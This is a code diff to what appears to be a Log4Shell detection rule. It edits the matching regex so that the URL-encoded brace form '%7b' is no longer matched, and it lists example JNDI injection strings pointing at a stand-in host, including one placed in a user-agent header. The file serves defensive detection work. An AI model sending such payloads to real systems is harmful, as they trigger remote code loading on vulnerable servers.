@@ -13,7 +13,7 @@ export const LOG4SHELL: readonly RuleText[] = [
     confidence: 0.99,
     where: 'any',
     match: {
-      regex: String.raw`\$\{?\s*jndi\s*:|\$\{.{0,60}\bjndi\s*:|jndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\$(?:\{|%7b|&\w+;)\W{0,4}jndi\b`,
+      regex: String.raw`\$\{?\s*jndi\s*:|\$\{.{0,60}\bjndi\s*:|jndi:(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?):|\$(?:\{|&\w+;)\W{0,4}jndi\b`,
     },
     examples: {
       match: ['${jndi:ldap://a.example/x}', { headers: { 'user-agent': '${jndi:rmi://a.example/x}' } }],
